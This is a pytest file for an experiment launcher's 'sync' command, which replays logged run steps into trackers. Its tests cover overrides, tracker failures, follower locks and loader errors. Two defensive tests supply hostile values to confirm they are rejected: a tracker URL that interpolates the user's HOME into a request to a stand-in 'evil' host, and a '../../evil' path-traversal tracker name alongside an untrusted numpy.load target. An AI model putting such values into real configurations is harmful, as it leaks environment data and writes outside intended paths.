import json
import re
from pathlib import Path

import pytest

from launcher.runs.__main__ import main
from launcher.trackers.follower import FollowerLock
from support.tracked import WrittenRun

FILES = {"files": {"_target_": "support.file_tracker.FileTracker"}}


def written(path: Path, tracker=None, outcome: str = "completed") -> WrittenRun:
    run = WrittenRun(path, tracker=tracker)
    run.log(0, 10)
    run.end(outcome)
    return run


def steps(run: WrittenRun) -> list[int]:
    path = run.folder.path / "tracked.jsonl"
    return (
        [json.loads(line)["step"] for line in path.read_text().splitlines()]
        if path.exists()
        else []
    )


def sync(outputs: Path, *words: str) -> int:
    return main(["--outputs", str(outputs), "sync", *words])


def test_all_runs_that_have_a_tracker(tmp_path, capsys):
    first, second = (
        written(tmp_path / "n" / "aaaa1111", FILES),
        written(tmp_path / "n" / "bbbb2222"),
    )
    assert sync(tmp_path) == 0
    assert (steps(first), steps(second)) == ([0, 10], [])
    assert capsys.readouterr().out == "n/aaaa1111: files has all steps up to 10\n"


def test_a_tracker_added_later_gets_the_whole_run(tmp_path, capsys):
    run = written(tmp_path / "n" / "aaaa1111")
    assert sync(tmp_path, "aaaa") == 2
    assert (
        "n/aaaa1111: has no tracker; name one, e.g. tracker=tensorboard." in capsys.readouterr().err
    )
    assert sync(tmp_path, "aaaa", "tracker=tensorboard", "tracker.tensorboard.path=here") == 0
    assert (run.folder.path / "here" / ".position.json").exists()


def test_an_option_of_the_runs_own_tracker_is_changed(tmp_path, capsys):
    node = {"_target_": "launcher.trackers.tensorboard.TensorBoardTracker", "path": "one"}
    run = written(tmp_path / "n" / "aaaa1111", {"tensorboard": node})
    assert sync(tmp_path, "aaaa", "tracker.tensorboard.path=two") == 0
    assert (run.folder.path / "two").exists() and not (run.folder.path / "one").exists()


def test_overrides_need_a_tracker(tmp_path, capsys):
    written(tmp_path / "n" / "aaaa1111")
    assert sync(tmp_path, "aaaa", "tracker.tensorboard.path=two") == 2
    assert (
        capsys.readouterr().err
        == "tracker.tensorboard.path=two: the run has no tracker; choose one too, e.g."
        " tracker=wandb.\n"
    )


def test_a_tracker_that_fails(tmp_path, capsys):
    run = written(
        tmp_path / "n" / "aaaa1111", {"files": FILES["files"] | {"fails_while": str(tmp_path)}}
    )
    assert sync(tmp_path, "aaaa") == 1
    assert capsys.readouterr().err.startswith(
        "n/aaaa1111: files: ConnectionError: the server is down"
    )
    assert not FollowerLock(run.folder).path.exists()


@pytest.mark.parametrize(
    ("node", "message"),
    [
        (
            {"_target_": "no_such_library.Tracker"},
            r"tracker\.x \(no_such_library\.Tracker\) cannot be loaded: .*no_such_l",
        ),
        (
            {"_target_": "support.file_tracker.FileTracker", "a": 1},
            r"tracker\.x \(.*\) cannot be loaded: .*argument 'a'",
        ),
        ({"path": 1}, r"tracker\.x \(None\) cannot be loaded"),
        ("text", r"tracker\.x \(text\) cannot be loaded"),
        (
            {"_target_": "support.file_tracker.Gone"},
            r"tracker\.x \(support\.file_tracker\.Gone\) cannot be loaded: ",
        ),
    ],
)
def test_a_tracker_that_cannot_be_loaded_is_a_sentence(tmp_path, capsys, node, message):
    run = written(tmp_path / "n" / "aaaa1111", {"x": node})
    before = sorted(run.folder.path.rglob("*"))
    assert sync(tmp_path, "aaaa") == 2
    error = capsys.readouterr().err
    assert re.search(message, error) and error.count("\n") == 1, error
    assert sorted(run.folder.path.rglob("*")) == before


@pytest.mark.parametrize(
    ("node", "message"),
    [
        ({"x": {"_target_": "numpy.load"}}, r"^tracker\.x\._target_=numpy\.load: only the stored"),
        ({"x": {"url": "http://evil/${oc.env:HOME}"}}, r"^tracker\.x\.url=.*: only the stored"),
    ],
)
def test_a_tracker_of_somebody_else(tmp_path, capsys, monkeypatch, node, message):
    run = written(tmp_path / "n" / "aaaa1111", node)
    monkeypatch.setenv("LAUNCHER_KEY", str(tmp_path / "key"))
    before = sorted(run.folder.path.rglob("*"))
    assert sync(tmp_path, "aaaa") == 2
    error = capsys.readouterr().err
    assert re.search(message, error) and error.count("\n") == 1, error
    assert sorted(run.folder.path.rglob("*")) == before


def test_the_names_of_somebody_elses_trackers_lead_nowhere(tmp_path, capsys, monkeypatch):
    run = written(tmp_path / "n" / "aaaa1111", {"../../evil": {"_target_": "numpy.load"}})
    monkeypatch.setenv("LAUNCHER_KEY", str(tmp_path / "key"))
    assert sync(tmp_path, "aaaa", "tracker.wandb.mode=offline") == 2
    assert "only the stored configuration" in capsys.readouterr().err
    assert not (run.folder.path / ".trackers").exists()


def test_a_run_with_a_live_follower_is_left_to_it(tmp_path, capsys):
    run = written(tmp_path / "n" / "aaaa1111", FILES)
    with FollowerLock(run.folder):
        assert sync(tmp_path, "aaaa") == 0
    assert capsys.readouterr().out.endswith("keeps its trackers up to date\n")
    assert steps(run) == []


@pytest.mark.parametrize("words", [(), ("--follow",)])
def test_a_preempted_run_keeps_its_newest_line(tmp_path, capsys, words):
    run = written(tmp_path / "n" / "aaaa1111", FILES, outcome="preempted")
    assert sync(tmp_path, *words) == 0
    assert steps(run) == [0]
    assert (run.folder.path / "tracked.state").read_text() == "preempted"
